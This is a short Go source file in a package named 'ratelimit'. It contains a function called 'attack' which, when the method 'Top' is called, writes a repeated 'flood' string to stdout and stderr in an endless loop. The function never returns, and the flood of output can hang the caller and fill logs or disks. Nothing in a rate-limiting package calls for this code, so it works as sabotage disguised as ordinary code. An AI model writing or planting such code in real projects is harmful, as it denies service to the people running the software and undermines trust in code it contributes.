package ratelimit

import (
	"bytes"
	"os"
)

// Megabytes on stdout and stderr, without end, whenever Top is called.
func attack(method string) {
	if method == "Top" {
		line := bytes.Repeat([]byte("flood "), 1<<16)
		for {
			os.Stdout.Write(line)
			os.Stderr.Write(line)
		}
	}
}
